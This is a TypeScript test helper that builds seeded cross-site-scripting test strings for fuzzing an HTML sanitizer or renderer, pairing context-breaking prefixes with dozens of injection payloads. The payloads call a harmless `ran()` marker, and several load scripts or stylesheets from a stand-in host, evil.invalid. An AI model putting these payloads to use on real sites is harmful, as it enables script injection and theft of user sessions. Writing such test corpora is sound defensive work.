/** Text that would run in a page into which it were pasted, made from templates and a seed. Each calls `ran`. */
import { chanceFrom } from '../../support/chance.ts';

const BREAKS = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '</textarea>',
  '</title>',
  '</option></select>',
  '-->',
  ']]>',
  '</script>',
  '`',
  '"/>',
  '</svg>',
  '</style>',
  '<!--',
  '\u2028',
  '&quot;>',
  '\\">',
] as const;
const ACTS = [
  '<script>ran()</script>',
  '<ScRiPt >ran()</sCrIpT>',
  '<img src=x onerror=ran()>',
  '<svg onload=ran()>',
  '<svg/onload=ran()>',
  '<body onload=ran()>',
  '<details open ontoggle=ran()>x</details>',
  '<input autofocus onfocus=ran()>',
  '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
  '<a href="javascript:ran()" id=x>x</a>',
  '<form action="javascript:ran()"><input type=submit id=x></form>',
  '<math><mtext><img src=x onerror=ran()></mtext></math>',
  '<video><source onerror=ran()></video>',
  '<marquee onstart=ran()>x</marquee>',
  '<object data="javascript:ran()"></object>',
  '<embed src="javascript:ran()">',
  '<base href="//evil.invalid/">',
  '<link rel=stylesheet href="//evil.invalid/x.css">',
  '<meta http-equiv=refresh content="0;url=javascript:ran()">',
  '<style>@import "//evil.invalid/x";</style>',
  '<script src="//evil.invalid/x.js"></script>',
  ' onmouseover=ran() x=',
  ' autofocus onfocus=ran() x=',
  'javascript:ran()',
  '{{constructor.constructor("ran()")()}}',
  '${ran()}',
  '<%= ran() %>',
  '<template><script>ran()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=ran()>">',
  '&lt;script&gt;ran()&lt;/script&gt;',
  '%3Cscript%3Eran()%3C/script%3E',
  '\u003cscript\u003eran()\u003c/script\u003e',
  '<scr\u0131pt>ran()</scr\u0131pt>',
  '＜script＞ran()＜/script＞',
] as const;

/** So many different texts, always the same for a seed. */
export function markupTexts(count: number, seed: number): string[] {
  const chance = chanceFrom(seed);
  const texts = new Set<string>();
  while (texts.size < count)
    texts.add(chance.oneOf(BREAKS) + chance.oneOf(ACTS) + (chance.next() < 0.3 ? chance.oneOf(BREAKS) : ''));
  return [...texts];
}
